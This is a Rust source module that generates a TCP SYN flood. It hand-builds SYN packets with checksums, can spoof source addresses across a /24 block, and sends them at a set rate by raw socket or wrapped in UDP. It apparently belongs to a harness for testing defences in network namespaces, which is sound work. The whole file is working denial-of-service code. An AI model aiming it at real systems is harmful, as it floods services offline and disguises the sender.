//! A flood of TCP SYNs that nobody means: from one address and random ports, or from random addresses of a block.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Instant;

use anyhow::Result;
use rustix::net::{
    AddressFamily, Protocol, RawProtocol, SendFlags, SocketFlags, SocketType, sendto, socket_with, sockopt,
};

use crate::Pace;

/// IPv4 and TCP without options.
const LENGTH: usize = 40;
/// How many there are before they come again.
const PREPARED: usize = 1 << 16;
/// How many are sent at a time.
const BURST: u32 = 16;
/// Of an IP packet that is written whole.
const IPPROTO_RAW: u32 = 255;

/// Where SYNs go.
#[derive(Clone, Copy, Debug)]
pub struct Syns {
    /// The sender, or the first address of its block of 256.
    pub source: Ipv4Addr,
    /// Whether each comes from another address of the block.
    pub spoofed: bool,
    /// To whom.
    pub destination: SocketAddrV4,
    /// SYNs a second.
    pub per_second: u32,
}

/// What a flood was.
#[derive(Clone, Copy, Debug, Default)]
pub struct Sent {
    /// SYNs that the kernel took.
    pub syns: u64,
    /// Seconds.
    pub seconds: f64,
}

impl Sent {
    /// SYNs a second.
    pub fn rate(&self) -> f64 {
        self.syns as f64 / self.seconds
    }
}

impl Syns {
    /// Sends them by a raw socket of the namespace that this is called in, until `is_over`.
    ///
    /// # Errors
    /// When the socket can't be made.
    pub fn flood(&self, is_over: &AtomicBool) -> Result<Sent> {
        let protocol = RawProtocol::new(IPPROTO_RAW).map(Protocol::from_raw);
        let raw = socket_with(
            AddressFamily::INET,
            SocketType::RAW,
            SocketFlags::CLOEXEC,
            protocol,
        )?;
        sockopt::set_socket_send_buffer_size(&raw, 1 << 20)?;
        self.send(is_over, |packet| {
            sendto(&raw, packet, SendFlags::DONTWAIT, &self.destination).is_ok()
        })
    }

    /// Sends them wrapped: each behind `header`, as one datagram to `endpoint` by a UDP socket of the namespace that this
    /// is called in, until `is_over`.
    ///
    /// # Errors
    /// When the socket can't be made.
    pub fn flood_wrapped(&self, header: &[u8], endpoint: SocketAddrV4, is_over: &AtomicBool) -> Result<Sent> {
        let socket = std::net::UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.set_nonblocking(true)?;
        let mut datagram = [header, &[0; LENGTH]].concat();
        self.send(is_over, |packet| {
            datagram.truncate(header.len());
            datagram.extend_from_slice(packet);
            socket.send_to(&datagram, endpoint).is_ok()
        })
    }

    fn send(&self, is_over: &AtomicBool, mut send: impl FnMut(&[u8; LENGTH]) -> bool) -> Result<Sent> {
        // Made before: what they cost would be missing at the host's own processors.
        let mut random = 0x9e37_79b9_7f4a_7c15_u64;
        let packets = (0..PREPARED).map(|_| {
            // Marsaglia's xorshift: the ports only have to differ.
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            self.syn(random)
        });
        let packets: Vec<[u8; LENGTH]> = packets.collect();
        let mut pace = Pace::new(self.per_second / BURST);
        let (began, mut syns) = (Instant::now(), 0);
        for burst in packets.chunks(BURST as usize).cycle() {
            if is_over.load(Ordering::Relaxed) {
                break;
            }
            syns += burst.iter().filter(|packet| send(packet)).count() as u64;
            pace.wait();
        }
        Ok(Sent {
            syns,
            seconds: began.elapsed().as_secs_f64(),
        })
    }

    fn syn(&self, random: u64) -> [u8; LENGTH] {
        let [a, b, c, d, e, f, g, _] = random.to_be_bytes();
        let mut source = self.source.octets();
        if self.spoofed {
            source[3] = g.clamp(2, 254);
        }
        let mut packet = [0; LENGTH];
        packet[..4].copy_from_slice(&[0x45, 0, 0, LENGTH as u8]);
        packet[8..10].copy_from_slice(&[64, 6]);
        packet[12..16].copy_from_slice(&source);
        packet[16..20].copy_from_slice(&self.destination.ip().octets());
        let sum = checksum(0, &packet[..20]);
        packet[10..12].copy_from_slice(&sum);
        packet[20..22].copy_from_slice(&[a | 0x80, b]);
        packet[22..24].copy_from_slice(&self.destination.port().to_be_bytes());
        packet[24..28].copy_from_slice(&[c, d, e, f]);
        packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
        // The pseudo header (RFC 9293 §3.1): both addresses, the protocol, the length.
        let pseudo: u32 = packet[12..20]
            .chunks(2)
            .map(|word| u32::from(word[0]) << 8 | u32::from(word[1]))
            .sum();
        let sum = checksum(pseudo + 6 + 20, &packet[20..]);
        packet[36..38].copy_from_slice(&sum);
        packet
    }
}

fn checksum(begin: u32, bytes: &[u8]) -> [u8; 2] {
    let words = bytes
        .chunks(2)
        .map(|word| u32::from(word[0]) << 8 | u32::from(word[1]));
    let mut sum = begin + words.sum::<u32>();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}
